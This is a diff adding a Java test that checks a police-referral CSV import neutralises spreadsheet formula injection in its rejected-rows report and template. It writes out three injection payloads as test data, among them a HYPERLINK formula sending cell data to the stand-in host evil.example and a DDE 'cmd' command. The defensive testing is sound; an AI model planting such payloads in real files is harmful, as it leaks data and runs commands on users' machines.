@@ -195,6 +195,44 @@ class PoliceImportTest {
         }
     }
 
+    /** Issue 10, point 15: the rejected-rows report never hands a spreadsheet a formula from the file. */
+    @Test
+    void theRejectedRowsReportNeutralisesFormulasAndTheTemplateIsSafe() throws Exception {
+        WebSession web = coordinator();
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" + unique();
+        String command = "+cmd|' /C calc'!A0" + unique();
+        String at = "@SUM(1+1)" + unique();
+        Path file = Files.createTempFile("import-formula", ".csv");
+        try {
+            Files.writeString(file, HEADER
+                    + row("\"" + hyperlink.replace("\"", "\"\"") + "\"", "2026-02-30", "", unique(), "PHYSICAL", "x")
+                    + row("\"" + command + "\"", "2026-02-30", "", unique(), "PHYSICAL", "x")
+                    + row(at, "2026-02-30", "", unique(), "PHYSICAL", "x"), StandardCharsets.UTF_8);
+            String job = upload(web, file);
+            Page report = finished(web, job, Duration.ofSeconds(60));
+            assertThat(count(report, "rejected")).isEqualTo(3);
+            Page csv = web.get(job + "/rejected.csv");
+            assertThat(csv.status()).isEqualTo(200);
+            java.util.List<org.apache.commons.csv.CSVRecord> records = org.apache.commons.csv.CSVFormat.RFC4180.builder()
+                    .setHeader().setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.body())).getRecords();
+            assertThat(records).extracting(r -> r.get("police_reference")).as("quoted (and cut to length)")
+                    .satisfiesExactly(r -> assertThat(r).startsWith("'=HYPERLINK(").isSubstringOf("'" + hyperlink),
+                            r -> assertThat(r).isEqualTo("'" + command), r -> assertThat(r).isEqualTo("'" + at));
+            assertThat(records).extracting(r -> r.get("line")).as("numbers stay numbers").containsExactly("2", "3", "4");
+            for (org.apache.commons.csv.CSVRecord r : records) {
+                assertThat(r.get("reason")).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
+                        .doesNotStartWith("-");
+            }
+        } finally {
+            Files.deleteIfExists(file);
+        }
+        Page template = web.get("/referrals/import/template.csv");
+        for (org.apache.commons.csv.CSVRecord r : org.apache.commons.csv.CSVFormat.RFC4180
+                .parse(new java.io.StringReader(template.body())).getRecords()) {
+            r.forEach(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@"));
+        }
+    }
+
     @Test
     void fileOverTheLimitGetsAClearPage() throws Exception {
         WebSession web = coordinator();
